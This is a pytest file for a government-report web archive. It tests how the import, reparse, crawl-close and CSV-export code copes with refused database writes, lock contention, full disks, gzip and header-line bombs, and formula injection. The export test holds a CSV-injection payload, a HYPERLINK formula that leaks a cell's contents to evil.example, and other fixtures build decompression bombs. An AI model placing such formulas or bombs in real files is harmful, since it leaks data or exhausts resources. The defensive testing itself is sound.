"""A failing write costs only itself, and hostile archived bytes stay bounded (review H3, H4, H6,
M5, M6, M9): import, reparse, the crawl's close, every column PostgreSQL checks, CSV export.

Each test failed before its fix (run against the previous commit's files): the import and the
reparse lost or aborted on one refused report; SQLite gave up after 5 s; a failing WARC close
lost the last batch and left the run "running"; PostgreSQL refused 1000-character names; the
import inflated a gzip bomb whole and could not read br; reparse could not read br and had no
bound; CSV cells started formulas; a crawl whose SQLite transaction had read (every one does)
failed at once while another writer held the lock, busy timeout or not; a header line that
never ends cost the import time growing with its square; a disk filling mid-record left a cut
record, or a response without its capture row, in the WARC file.

The review's fault scenarios 7, 8, 11, 12, 14, 15 and 21 (docs/fault-injection.md) are here, on
SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import errno
import gzip
import io
import json
import os
import sqlite3
import threading
import time
import tracemalloc
import uuid
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import brotli
import pytest
from scrapy.exceptions import DropItem
from sqlalchemy import func, select, text
from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from archive import db
from archive import warc as warc_module
from archive.export import export
from archive.importer import import_files
from archive.models import (
    Attachment,
    Capture,
    CrawlRun,
    Problem,
    Report,
    ReportCell,
    ReportVersion,
    Site,
)
from archive.recover import iter_members
from archive.store import CaptureRow, ReportStore, Seen
from archive.warc import Exchange, RotatingWarcWriter
from govcrawl import reparse as reparse_module
from govcrawl.analysis import PoolLimits
from govcrawl.analysis.result import Analysis, DocumentInfo
from govcrawl.items import ReportPage
from govcrawl.meta import CaptureMeta
from govcrawl.reparse import analyse_capture as real_analyse_capture
from govcrawl.reparse import reparse
from pipelines.store import StorePipeline
from tests.archive_dbs import BACKENDS, database, report_page
from tests.crawl.helpers import (
    archive_of,
    archive_response,
    build,
    close_all,
    close_crawler,
    crawl_run,
    make_crawler,
    make_spider,
)

HTML = "text/html; charset=utf-8"
SITE = "http://www.x.gov.cn/"
PAGES = [f"{SITE}art/2023/1/{n}/art_{n}.html" for n in range(1, 6)]
T0 = datetime(2024, 3, 1, 8, 0, tzinfo=UTC)


@pytest.fixture(autouse=True)
def _close_crawlers() -> Iterator[None]:
    yield
    close_all()


@pytest.fixture(params=BACKENDS)
def db_url(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
    with database(request.param, tmp_path) as url:
        yield url
        close_all()


def _quiet(done: int, total: int) -> None:
    pass


def foreign_warc(path: Path, records: list[tuple[str, bytes, list[tuple[str, str]]]]) -> Path:
    """A WARC/1.0 file as another crawler writes it: one response per (url, payload, headers)."""
    with open(path, "wb") as fh:
        writer = WARCWriter(fh, gzip=True, warc_version="WARC/1.0")
        for url, payload, headers in records:
            writer.write_record(writer.create_warc_record(
                url, "response", payload=io.BytesIO(payload), length=len(payload),
                http_headers=StatusAndHeaders("200 OK", [("Content-Type", HTML), *headers],
                                              protocol="HTTP/1.1")))
    return path


def _rows(url: str, query: Any) -> list[Any]:
    with db.session_factory(url)() as session:
        return list(session.execute(query).all())


def _reports(url: str) -> set[str]:
    return {u for (u,) in _rows(url, select(Report.url))}


def _problems(url: str) -> list[tuple[str, str | None, str]]:
    return [tuple(r) for r in _rows(url, select(Problem.kind, Problem.url, Problem.message)
                                    .order_by(Problem.id))]


# -- H6: one refused report, not its batch --------------------------------------------------------
def _refusing(method: str, bad: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """``ReportStore.<method>`` makes the database refuse a statement for the report ``bad``
    (a real error from the server: on PostgreSQL it aborts the transaction, as a value too long
    or a NUL byte does), then stores as usual."""
    real = getattr(ReportStore, method)

    def refusing(self: ReportStore, first: Any, *args: Any, **kwargs: Any) -> Any:
        url = first.url
        if url == bad:
            self.session.execute(text("INSERT INTO no_such_table VALUES (1)"))
        return real(self, first, *args, **kwargs)

    monkeypatch.setattr(ReportStore, method, refusing)


def test_import_a_report_the_database_refuses_costs_only_itself(
        tmp_path: Path, db_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    warc = foreign_warc(tmp_path / "in.warc.gz",
                        [(url, report_page(n), []) for n, url in enumerate(PAGES[:3])])
    _refusing("store_page", PAGES[1], monkeypatch)
    result = import_files(db_url, [str(warc)], workers=1)
    assert _reports(db_url) == {PAGES[0], PAGES[2]}  # before: none (the file's batch undone)
    (problem,) = _problems(db_url)
    assert problem[:2] == ("db_error", PAGES[1]) and "could not store" in problem[2]
    assert result.counts.failed == 1 and result.files[0].error is None


def test_reparse_a_report_the_database_refuses_costs_only_itself(
        tmp_path: Path, db_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    warc = foreign_warc(tmp_path / "in.warc.gz",
                        [(url, report_page(n), []) for n, url in enumerate(PAGES[:3])])
    import_files(db_url, [str(warc)], workers=1)
    assert len(_reports(db_url)) == 3
    _refusing("reanalysed_report", PAGES[1], monkeypatch)
    result = reparse(db_url, workers=1, progress=_quiet)  # before: raised, nothing committed
    assert (result.reports, result.failed) == (2, 1)
    (problem,) = _problems(db_url)
    assert problem[:2] == ("reparse_error", PAGES[1]) and "could not store" in problem[2]


def test_sqlite_waits_for_another_writer_instead_of_losing_the_batch(tmp_path: Path) -> None:
    # The review's probe_sqlite_lock.py: another connection holds the write lock longer than
    # pysqlite's default 5 s, as a reparse or import between its commits did.
    path = tmp_path / "p.sqlite"
    sessions = db.session_factory(f"sqlite:///{path}")
    with sessions() as session:
        assert session.execute(text("PRAGMA busy_timeout")).scalar() == 60000
    held = threading.Event()

    def other_writer() -> None:
        conn = sqlite3.connect(path, isolation_level=None)
        conn.execute("BEGIN IMMEDIATE")
        conn.execute("INSERT INTO problems(at, kind, message) VALUES ('2026-01-01', 'x', 'held')")
        held.set()
        time.sleep(5.5)
        conn.execute("COMMIT")
        conn.close()

    thread = threading.Thread(target=other_writer)
    thread.start()
    held.wait(10)
    with sessions() as session:
        now = db.now()
        session.add_all([Report(url=PAGES[0], first_seen=now, last_seen=now, text="1"),
                         Report(url=PAGES[1], first_seen=now, last_seen=now, text="2")])
        session.commit()  # before: "database is locked" after 5 s, both reports lost
    thread.join()
    assert _reports(f"sqlite:///{path}") == {PAGES[0], PAGES[1]}


@contextmanager
def _another_writer(url: str, seconds: float) -> Iterator[None]:
    """Another connection holds the database's write lock for ``seconds`` (from when the block
    is entered), as a person's sqlite3 shell or a script writing to the archive does; on
    PostgreSQL an EXCLUSIVE lock on the tables the crawl writes (reads still go through)."""
    held = threading.Event()

    def hold() -> None:
        if url.startswith("sqlite"):
            conn = sqlite3.connect(url.removeprefix("sqlite:///"), isolation_level=None)
            conn.execute("BEGIN IMMEDIATE")
            conn.execute("INSERT INTO problems(at, kind, message) VALUES ('2026-01-01', 'x', 'held')")
            held.set()
            time.sleep(seconds)
            conn.execute("COMMIT")
            conn.close()
            return
        engine = db.connect(url)
        with engine.begin() as conn:
            conn.execute(text("LOCK TABLE captures, reports, report_versions, report_cells, "
                              "problems, crawl_runs IN EXCLUSIVE MODE"))
            held.set()
            time.sleep(seconds)
        engine.dispose()

    thread = threading.Thread(target=hold)
    thread.start()
    assert held.wait(30)
    try:
        yield
    finally:
        thread.join()


def _report_item(url: str, capture_id: str | None, n: int) -> ReportPage:
    title = f"某县{2010 + n}年政府信息公开工作年度报告"
    return ReportPage(url=url, body=b"", content_type=HTML, site_url=SITE, site_name="某县",
                      listed_title=title, fetched_at=T0, capture_id=capture_id,
                      analysis=Analysis(title=title, text=f"正文{n}", year=2010 + n))


def _crawl_reports(crawler: Any, urls: list[str]) -> list[str]:
    """Archive and store a report at each of ``urls`` as the crawl does (prior looked up, WARC
    record written, item stored in its savepoint); returns the URLs the store kept."""
    store = build(StorePipeline, crawler)
    assert store is not None
    store.open_spider()
    kept = []
    for n, page in enumerate(urls):
        request, _ = archive_response(crawler, page, report_page(n), headers={"Content-Type": HTML})
        try:
            store.process_item(_report_item(page, CaptureMeta.of(request).capture_id, n))
        except DropItem:
            continue
        kept.append(page)
    return kept


# The review's scenario 11 holds the lock 10 s during a crawl: longer than pysqlite's default
# busy timeout (5 s). PostgreSQL waits for a lock without limit; 2 s shows it.
HOLD_SECONDS = {"sqlite": 10.0, "postgresql": 2.0}


def test_a_crawl_waits_out_another_writer_and_loses_no_report(
        tmp_path: Path, db_url: str) -> None:
    crawler = make_crawler(tmp_path, GOVCRAWL_DB_URL=db_url)
    make_spider(crawler, site=SITE)
    archive = archive_of(crawler)
    archive.commit()
    hold = HOLD_SECONDS[db_url.split(":")[0].split("+")[0]]
    started = time.monotonic()
    with _another_writer(db_url, hold):
        # Before: every crawl transaction reads first (each URL's prior capture), and in WAL
        # mode SQLite fails such a transaction's first write at once, busy timeout or not:
        # the reports were dropped as db_error and the prior lookups raised.
        kept = _crawl_reports(crawler, PAGES[:3])
    assert time.monotonic() - started >= hold - 0.5  # it waited for the lock, it did not fail
    close_crawler(crawler)
    assert kept == PAGES[:3]
    assert _reports(db_url) == set(PAGES[:3])
    assert set(archive.history.stored_reports) == set(PAGES[:3])
    assert [kind for kind, _, _ in _problems(db_url) if kind != "x"] == []  # "x": the holder's
    assert [s for (s,) in _rows(db_url, select(CrawlRun.status))] == ["finished"]


def test_a_report_the_database_refuses_in_the_crawl_costs_only_itself(
        tmp_path: Path, db_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    # Review scenario 12: one refused report among a batch's writes (on PostgreSQL the error
    # aborts the transaction); the batch is committed once, at the end.
    crawler = make_crawler(tmp_path, GOVCRAWL_DB_URL=db_url)
    make_spider(crawler, site=SITE)
    _refusing("store_page", PAGES[2], monkeypatch)
    kept = _crawl_reports(crawler, PAGES)
    close_crawler(crawler)
    assert kept == [p for p in PAGES if p != PAGES[2]]
    assert _reports(db_url) == set(kept)
    assert set(archive_of(crawler).history.stored_reports) == set(kept)
    assert sorted(u for (u,) in _rows(db_url, select(Capture.url))) == sorted(PAGES)
    ((kind, where, message),) = _problems(db_url)
    assert (kind, where) == ("db_error", PAGES[2]) and "no_such_table" in message


# -- M6: the crawl's close ----------------------------------------------------------------------
def _disk_full(crawler: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    def disk_full() -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(archive_of(crawler).writer, "close", disk_full)


def _renamed_away(crawler: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    # What a second crawl's repair did to a live file before the folder lock (review H5).
    (open_file,) = Path(crawler.settings.get("GOVCRAWL_WARC_DIR")).glob("*.open")
    open_file.rename(open_file.with_name("moved-" + open_file.name))


@pytest.mark.parametrize(("fault", "error"), [(_disk_full, "No space left on device"),
                                               (_renamed_away, "No such file or directory")],
                         ids=["enospc", "open-file-renamed"])
def test_a_failing_warc_close_still_commits_the_last_batch_and_finishes_the_run(
        tmp_path: Path, db_url: str, monkeypatch: pytest.MonkeyPatch, fault: Any,
        error: str) -> None:
    crawler = make_crawler(tmp_path, GOVCRAWL_DB_URL=db_url)
    archive_response(crawler, PAGES[0], b"<html>x</html>", headers={"Content-Type": HTML})
    fault(crawler, monkeypatch)
    close_crawler(crawler)  # before: raised, the batch and the run's end never committed
    assert [c for (c,) in _rows(db_url, select(Capture.url))] == [PAGES[0]]
    assert [s for (s,) in _rows(db_url, select(CrawlRun.status))] == ["finished"]
    ((kind, _, message),) = _problems(db_url)
    assert kind == "warc_write_error" and error in message
    monkeypatch.undo()
    # A file left under its .open name is closed by the next crawl's repair.
    close_crawler(make_crawler(tmp_path, GOVCRAWL_DB_URL=db_url))
    assert not list((tmp_path / "warc").glob("*.open"))


class _FillingDisk(io.FileIO):
    """A file on a disk with ``free`` bytes left (None: room enough): writes past it fail with
    ENOSPC after writing what fits, as write(2) does."""

    free: int | None = None

    def write(self, data: Any) -> int:
        if _FillingDisk.free is None:
            return super().write(data)
        if _FillingDisk.free <= 0:
            raise OSError(errno.ENOSPC, "No space left on device")
        written = super().write(bytes(data)[:_FillingDisk.free]) or 0
        _FillingDisk.free -= written
        return written


def _open_on_filling_disk(path: Any, mode: str = "r", buffering: int = -1, *args: Any,
                          **kwargs: Any) -> Any:
    """``open`` for archive/warc.py: files it writes are on the filling disk."""
    if "w" in mode or "a" in mode:
        raw = _FillingDisk(path, mode.replace("b", ""))
        return raw if buffering == 0 else io.BufferedWriter(raw)
    return open(path, mode, buffering, *args, **kwargs)


def test_a_disk_that_fills_mid_record_leaves_no_partial_or_unlisted_record(
        tmp_path: Path, db_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    # Review scenario 15: the disk fills while the crawl writes a record (at several points of
    # it), then space is freed. The exchanges that could not be written are warc_write_error
    # problems; the file keeps whole records only, each with its capture row.
    monkeypatch.setattr(warc_module, "open", _open_on_filling_disk, raising=False)
    bodies = [os.urandom(size) for size in (3000, 200, 20000, 2000, 3000)]  # do not compress
    for free in (0, 500, 2500, 9000, 15000):
        crawler = make_crawler(tmp_path / str(free), GOVCRAWL_DB_URL=db_url)
        archive_response(crawler, PAGES[0], bodies[0], headers={"Content-Type": HTML})
        _FillingDisk.free = free
        for page, body in zip(PAGES[1:4], bodies[1:4], strict=True):
            archive_response(crawler, page, body, headers={"Content-Type": HTML})
        _FillingDisk.free = None
        archive_response(crawler, PAGES[4], bodies[4], headers={"Content-Type": HTML})
        close_crawler(crawler)
        run_id = crawl_run(crawler).id
        rows = dict(_rows(db_url, select(Capture.id, Capture.url).where(Capture.run_id == run_id)))
        failed = {where for (where,) in _rows(db_url, select(Problem.url).where(
            Problem.run_id == run_id, Problem.kind == "warc_write_error"))}
        assert PAGES[0] in rows.values() and PAGES[4] in rows.values()
        assert failed and failed.isdisjoint(rows.values()), free
        (warc,) = (tmp_path / str(free) / "warc").glob("*.warc.gz")
        with open(warc, "rb") as fh:
            members = list(iter_members(fh))
        assert [m.detail for m in members if not m.ok] == [], free
        responses = {m.record_id for m in members if m.rec_type in ("response", "revisit")}
        assert responses == set(rows), free  # no record the database does not know


# -- C1: capture rows ------------------------------------------------------------------------------
LONG_HEADERS = {"Content-Type": HTML + "; x=" + "a" * 300, "ETag": '"' + "e" * 400 + '"',
                "Last-Modified": "L" * 200}


def _killed(crawler: Any) -> None:
    """What SIGKILL leaves: the WARC file open, the batch never committed, the hold gone."""
    archive = archive_of(crawler)
    archive.session.rollback()
    archive.session.close()
    archive.hold.release()
    archive.closed = True


def test_long_server_headers_are_stored_and_rebuilt_on_every_backend(
        tmp_path: Path, db_url: str) -> None:
    # The review's C1 probe: on PostgreSQL one such header made every later commit of the run
    # fail, and the next crawl could not start (its repair rebuilt the same row).
    crawler = make_crawler(tmp_path, GOVCRAWL_DB_URL=db_url)
    archive_response(crawler, PAGES[0], b"<html>x</html>", headers=LONG_HEADERS)
    archive_of(crawler).commit()
    assert crawler.stats.get_value("govcrawl/problems/db_error") is None
    archive_response(crawler, PAGES[1], b"<html>y</html>", headers=LONG_HEADERS)
    _killed(crawler)
    close_crawler(make_crawler(tmp_path, GOVCRAWL_DB_URL=db_url))  # the repair rebuilds PAGES[1]
    assert sorted(u for (u,) in _rows(db_url, select(Capture.url))) == PAGES[:2]
    for etag, content_type in _rows(db_url, select(Capture.etag, Capture.content_type)):
        assert (len(etag), len(content_type)) == (300, 200)


def test_a_capture_row_the_database_refuses_is_dropped_not_retried_forever(
        tmp_path: Path, db_url: str) -> None:
    crawler = make_crawler(tmp_path, GOVCRAWL_DB_URL=db_url)
    archive = archive_of(crawler)
    archive_response(crawler, PAGES[0], b"<html>x</html>", headers={"Content-Type": HTML})
    archive.commit()
    ((first,),) = _rows(db_url, select(Capture.id))
    archive_response(crawler, PAGES[1], b"<html>y</html>", headers={"Content-Type": HTML})
    # A row the database will not take (here: a key it has), in the batch with a good one.
    archive.captures._queued.append({**archive.captures._queued[0], "id": first})
    archive.commit()
    archive.commit()  # and the next commit is not refused again
    assert sorted(u for (u,) in _rows(db_url, select(Capture.url))) == PAGES[:2]
    ((kind, url, message),) = _problems(db_url)
    assert (kind, url) == ("db_error", PAGES[1]) and f"capture row {first} refused" in message
    assert archive.captures.queued == 0


def test_a_record_the_database_refuses_does_not_block_the_repair(
        tmp_path: Path, db_url: str, caplog: pytest.LogCaptureFixture) -> None:
    crawler = make_crawler(tmp_path, GOVCRAWL_DB_URL=db_url)
    archive_response(crawler, PAGES[0], b"<html>x</html>", headers={"Content-Type": HTML})
    _killed(crawler)
    # A copy of the killed crawl's file beside it: its records' ids are in the database twice.
    (open_file,) = (tmp_path / "warc").glob("*.open")
    (tmp_path / "warc" / ("copy-" + open_file.name)).write_bytes(open_file.read_bytes())
    close_crawler(make_crawler(tmp_path, GOVCRAWL_DB_URL=db_url))  # before: IntegrityError
    assert [u for (u,) in _rows(db_url, select(Capture.url))] == [PAGES[0]]
    assert "1 capture rows the database refused, not rebuilt (first: " in caplog.text


# -- M9: every untrusted value fits its column -----------------------------------------------------
def test_over_long_untrusted_values_fit_their_columns(tmp_path: Path, db_url: str) -> None:
    long = "长" * 1000
    with db.session_factory(db_url)() as session:
        site = db.upsert_site(session, name=long, url="http://www.x.gov.cn/", domain="d" * 1000,
                              admin_level=long, region_code="9" * 1000)
        run = CrawlRun(started_at=T0, status="closespider_errorcount_and_more")  # a close reason
        session.add(run)
        session.flush()
        store = ReportStore(session, run.id)
        analysis = Analysis(
            title=long, text="正文\x00正文", raw_text="x\x00", issuer=long, region=long,
            admin_level=long, agency=long, encoding="e" * 1000, format="f" * 1000,
            cells=[{"table": "T" * 1000, "row": long, "column": long, "label": long + "\x00",
                    "text": "1\x00", "value": 1.0}],
            document=DocumentInfo(kind="k" * 1000, pages=1, title=long))
        seen = Seen(url=PAGES[0], capture_id=None, fetched_at=T0,
                    payload_digest="sha256:" + "0" * 100, source="import",
                    content_type=HTML + "; p=1" * 200)
        store.store_page(seen, analysis, listed_title=long, site_id=site.id, document=True)
        db.record_problem(session, "k" * 1000, "m\x00", url=PAGES[0], run_id=run.id)
        session.commit()  # before, on PostgreSQL: StringDataRightTruncation (varying(200) …)
    for model in (Site, CrawlRun, Report, ReportVersion, Attachment, ReportCell, Problem):
        table = model.__table__
        (row,) = _rows(db_url, select(table))
        for column, value in zip(table.columns, row, strict=True):
            length = getattr(column.type, "length", None)
            if isinstance(value, str):
                assert "\x00" not in value, (table.name, column.name)
                assert length is None or len(value) <= length, (table.name, column.name)
    (report,) = _rows(db_url, select(Report.issuer, Report.text))
    assert report == (long[:200], "正文正文")


# -- H3: gzip bombs in imported files ------------------------------------------------------------
def test_import_a_gzip_bomb_is_one_problem_and_every_coding_is_read(
        tmp_path: Path, db_url: str) -> None:
    bomb = gzip.compress(b"\0" * (8 << 20), 9)  # 8 KiB that inflate to 8 MiB
    deflated = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)  # raw deflate (IIS)
    raw_deflate = deflated.compress(report_page(2)) + deflated.flush()
    warc = foreign_warc(tmp_path / "in.warc.gz", [
        (PAGES[0], gzip.compress(report_page(0)), [("Content-Encoding", "gzip")]),
        (PAGES[1], bomb, [("Content-Encoding", "gzip")]),
        (PAGES[2], raw_deflate, [("Content-Encoding", "deflate")]),
        (PAGES[3], brotli.compress(report_page(3)), [("Content-Encoding", "br")]),
        (PAGES[4], report_page(4), [("Content-Encoding", "x-unknown")]),  # as the crawl: as is
    ])
    import_files(db_url, [str(warc)], workers=1, max_payload=1 << 20)
    assert _reports(db_url) == {PAGES[0], PAGES[2], PAGES[3], PAGES[4]}
    ((kind, where, message),) = _problems(db_url)
    assert (kind, where) == ("import_error", PAGES[1])
    assert message.endswith("payload inflates past 1 MiB, not read"), message


def _warc_record(url: str, block: bytes, content_length: int | str | None = None) -> bytes:
    """One WARC/1.0 response record, written by hand: its Content-Length may lie."""
    length = len(block) if content_length is None else content_length
    return (f"WARC/1.0\r\nWARC-Type: response\r\nWARC-Record-ID: <urn:uuid:{uuid.uuid4()}>\r\n"
            f"WARC-Date: 2024-03-01T08:00:00Z\r\nWARC-Target-URI: {url}\r\n"
            f"Content-Type: application/http; msgtype=response\r\n"
            f"Content-Length: {length}\r\n\r\n").encode() + block + b"\r\n\r\n"


def _http(body: bytes, *headers: str) -> bytes:
    head = "".join(f"{h}\r\n" for h in (f"Content-Type: {HTML}", *headers))
    return f"HTTP/1.1 200 OK\r\n{head}\r\n".encode() + body


@pytest.mark.parametrize("compressed", [True, False], ids=["warc.gz", "warc"])
def test_import_records_with_huge_content_lengths_cost_only_themselves(
        tmp_path: Path, db_url: str, compressed: bool) -> None:
    # Review scenario 7: a record whose Content-Length claims a petabyte (or more than an
    # index can hold) must not be read for it, nor take its neighbours along; an HTTP
    # Content-Length is the server's word, not the record's, and changes nothing.
    records = [
        _warc_record(PAGES[0], _http(report_page(0))),
        _warc_record(PAGES[1], _http(report_page(1)), content_length=10**15),
        _warc_record(PAGES[2], _http(report_page(2), "Content-Length: 999999999999999999")),
        _warc_record(PAGES[3], _http(report_page(3)), content_length="9" * 30),
        _warc_record(PAGES[4], _http(report_page(4))),
    ]
    path = tmp_path / ("in.warc.gz" if compressed else "in.warc")
    path.write_bytes(b"".join(gzip.compress(r) for r in records) if compressed
                     else b"".join(records))
    result = import_files(db_url, [str(path)], workers=1)
    assert _reports(db_url) == {PAGES[0], PAGES[2], PAGES[4]}
    # The second cannot be parsed at all (no URL to name): its offset and why are said.
    (kind1, where1, _), (kind2, where2, why) = _problems(db_url)
    assert (kind1, where1, kind2, where2) == ("import_error", PAGES[1], "import_error", None)
    assert "unparseable record" in why
    assert result.counts.damaged == 2 and result.files[0].error is None


def _header_bomb(where: str, line: str) -> bytes:
    """A record whose WARC or HTTP header block holds ``line``, or a good record (PAGES[1])
    followed by ``line``."""
    if where == "warc-header":
        return f"WARC/1.0\r\nWARC-Type: response\r\n{line}\r\n\r\n".encode()
    if where == "http-header":
        return _warc_record(PAGES[1], _http(report_page(1), line))
    return _warc_record(PAGES[1], _http(report_page(1))) + line.encode() + b"\r\n"


@pytest.mark.parametrize("compressed", [True, False], ids=["warc.gz", "warc"])
@pytest.mark.parametrize("where", ["warc-header", "http-header", "after-block"])
def test_import_a_header_line_bomb_is_one_problem_in_bounded_memory(
        tmp_path: Path, where: str, compressed: bool) -> None:
    # Review scenario 7: a gzip member of 16 KiB that inflates to one 16 MiB header line (the
    # review's is 1 GiB; warcio's cost grows faster than the line), or such a line after a
    # record's block, where warcio reads on line by line. The member (or the stretch of an
    # uncompressed file) around it is damaged and skipped; its neighbours are imported; memory
    # stays far below the line.
    line = "X-Bomb: " + "a" * (16 << 20)
    records = (_warc_record(PAGES[0], _http(report_page(0))), _header_bomb(where, line),
               _warc_record(PAGES[2], _http(report_page(2))))
    path = tmp_path / ("in.warc.gz" if compressed else "in.warc")
    path.write_bytes(b"".join(gzip.compress(r) for r in records) if compressed
                     else b"".join(records))
    # The first import of a process loads the analysis modules (about 8 MiB): not measured.
    warm = tmp_path / "warm.warc.gz"
    warm.write_bytes(gzip.compress(records[0]))
    import_files(f"sqlite:///{tmp_path / 'warm.sqlite'}", [str(warm)], workers=1)
    url = f"sqlite:///{tmp_path / 'db.sqlite'}"
    tracemalloc.start()
    try:
        result = import_files(url, [str(path)], workers=1)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    # Uncompressed, a line after a good record's block is not that record's: it is kept.
    kept = PAGES[:3] if where == "after-block" and not compressed else [PAGES[0], PAGES[2]]
    assert _reports(url) == set(kept)
    assert result.counts.damaged == 1
    ((_, _, message),) = _problems(url)
    assert ("data after the record's Content-Length" if where == "after-block" and compressed
            else "does not end within 1 MiB") in message, message
    assert peak < 8 << 20, f"peak {peak >> 20} MiB of Python objects for a 16 MiB line"


# -- H4: reparse over hostile archived records -----------------------------------------------------
def test_reparse_reads_br_bounds_bombs_and_goes_on_after_undecodable_records(
        tmp_path: Path, db_url: str) -> None:
    writer = RotatingWarcWriter(tmp_path / "warc")
    records = [  # (url, payload as archived, Content-Encoding)
        (PAGES[0], brotli.compress(report_page(0)), "br"),
        (PAGES[1], gzip.compress(b"\0" * (8 << 20), 9), "gzip"),  # a bomb
        (PAGES[2], b"not brotli at all" * 10, "br"),
        (PAGES[3], b"not zstd either" * 10, "zstd"),
        (PAGES[4], report_page(4), None),
    ]
    url = db_url
    with db.session_factory(url)() as session:
        for page, payload, coding in records:
            headers = [("Content-Type", HTML)] + ([("Content-Encoding", coding)] if coding else [])
            ref = writer.write_exchange(Exchange(
                url=page, method="GET", request_headers=[], request_body=b"", status=200,
                protocol="HTTP/1.1", response_headers=headers, body=payload, fetched_at=T0))
            session.add(Capture(**CaptureRow(
                id=ref.record_id, url=page, status=200, fetched_at=T0, warc_file=ref.warc_file,
                warc_offset=ref.offset, warc_length=ref.length, content_type=HTML).values()))
            session.flush()
            session.add(Report(url=page, capture_id=ref.record_id, first_seen=T0, last_seen=T0,
                               listed_title="", text=""))
        session.commit()
    writer.close()
    # Before: no max_payload; br raised AttributeError in warcio and was a reparse_error.
    result = reparse(url, workers=1, progress=_quiet, max_payload=1 << 20)
    assert (result.reports, result.failed) == (2, 3)
    years = dict(_rows(url, select(Report.url, Report.year)))
    assert (years[PAGES[0]], years[PAGES[4]]) == (2010, 2014)
    problems = {where: message for kind, where, message in _problems(url)
                if kind == "reparse_error"}
    assert sorted(problems) == sorted(PAGES[1:4])
    assert "payload inflates past 1 MiB" in problems[PAGES[1]]
    assert "does not decode as br" in problems[PAGES[2]]
    assert "does not decode as zstd" in problems[PAGES[3]]


def hostile_capture(warc_file: str, offset: int, url: str, *args: Any) -> Any:
    """``reparse.analyse_capture``, but hanging on one capture (a PDF that never ends), killing
    its worker on another (a segfault, the OOM killer) and needing 3 GiB for a third (an XLSX
    past the worker's 2 GiB limit: ``bytes`` asks for the memory without touching it)."""
    if url == PAGES[1]:
        time.sleep(60)
    if url == PAGES[2]:
        os._exit(1)
    if url == PAGES[3]:
        bytes(3 << 30)
    return real_analyse_capture(warc_file, offset, url, *args)


def test_reparse_goes_on_after_captures_that_hang_kill_or_exhaust_their_worker(
        tmp_path: Path, db_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    # H4 (review scenario 8): reparse had no time or memory limit and one dead worker aborted
    # it (fixed by the shared analysis pool; this pins it). The last page opens with the
    # comment runs that backtracked exponentially in the document sniffer (C2): it is analysed
    # within the time limit like any page.
    c2_page = b"<!---->" * 30 + b"<link rel=stylesheet href=a.css>" + report_page(4)
    pages = [report_page(n) for n in range(4)] + [c2_page]
    warc = foreign_warc(tmp_path / "in.warc.gz",
                        [(url, page, []) for url, page in zip(PAGES, pages, strict=True)])
    import_files(db_url, [str(warc)], workers=1)
    assert len(_reports(db_url)) == 5
    monkeypatch.setattr(reparse_module, "analyse_capture", hostile_capture)
    started = time.monotonic()
    result = reparse(db_url, progress=_quiet,
                     limits=PoolLimits(workers=2, timeout=3, memory_mb=2048))
    assert time.monotonic() - started < 45
    assert (result.reports, result.failed) == (2, 3)
    problems = {where: message for kind, where, message in _problems(db_url)
                if kind == "reparse_error"}
    assert sorted(problems) == PAGES[1:4]
    assert "took longer than 3 s" in problems[PAGES[1]]
    assert "worker died" in problems[PAGES[2]]
    assert "MemoryError" in problems[PAGES[3]]
    years = dict(_rows(db_url, select(Report.url, Report.year)))
    assert (years[PAGES[0]], years[PAGES[4]]) == (2010, 2014)


# -- M5: CSV export --------------------------------------------------------------------------------
def test_csv_export_defuses_formulas_and_jsonl_keeps_the_text(tmp_path: Path, db_url: str) -> None:
    title = '=HYPERLINK("http://evil.example/?leak="&A2,"某县2022年政府信息公开工作年度报告")'
    with db.session_factory(db_url)() as session:
        report = Report(url=PAGES[0], title=title, agency="@SUM(1+1)", issuer="+86 10 1234",
                        region="\tcmd", year=2022, first_seen=T0, last_seen=T0, text="-1+1")
        session.add(report)
        session.flush()
        session.add(ReportCell(report_id=report.id, table="T3", row="r1", column="c1",
                               label="=1+1", value_text="-2+3", value=-5.0))
        session.commit()
        sheets = {}
        for fmt in ("csv", "cells", "jsonl"):
            out = io.StringIO()
            export(session, fmt, out)
            sheets[fmt] = out.getvalue()
    (row,) = csv.DictReader(io.StringIO(sheets["csv"]))
    assert row["title"] == "'" + title and row["agency"] == "'@SUM(1+1)"
    assert row["issuer"] == "'+86 10 1234" and row["region"] == "'\tcmd"
    assert row["text"] == "'-1+1" and row["year"] == "2022"
    (cell,) = csv.DictReader(io.StringIO(sheets["cells"]))
    assert (cell["label"], cell["value_text"], cell["value"]) == ("'=1+1", "'-2+3", "-5.0")
    (record,) = [json.loads(line) for line in sheets["jsonl"].splitlines()]
    assert record["title"] == title and record["tables"][0]["label"] == "=1+1"


def test_the_store_fits_attachments_of_every_backend(tmp_path: Path, db_url: str) -> None:
    """An attachment whose Content-Type and kind are long, stored after its page: a stored row
    updated (the flush hook fits updates as well as inserts)."""
    with db.session_factory(db_url)() as session:
        store = ReportStore(session, None)
        store.store_page(Seen(url=PAGES[0], capture_id=None, fetched_at=T0),
                         Analysis(title="某县2022年政府信息公开工作年度报告"), listed_title="")
        session.commit()
        doc = Analysis(document=DocumentInfo(kind="pdf"))
        seen = Seen(url=PAGES[1], capture_id=None, fetched_at=T0, content_type="x" * 1000)
        store.store_attachment(PAGES[0], seen, doc, link_text="附件")
        session.commit()
        attachment = session.scalar(select(Attachment))
        assert attachment is not None
        attachment.kind = "k" * 1000  # a later analysis, as reparse sets it
        session.commit()
        assert session.scalar(select(func.length(Attachment.kind))) == 20
        assert session.scalar(select(func.length(Attachment.content_type))) == 200
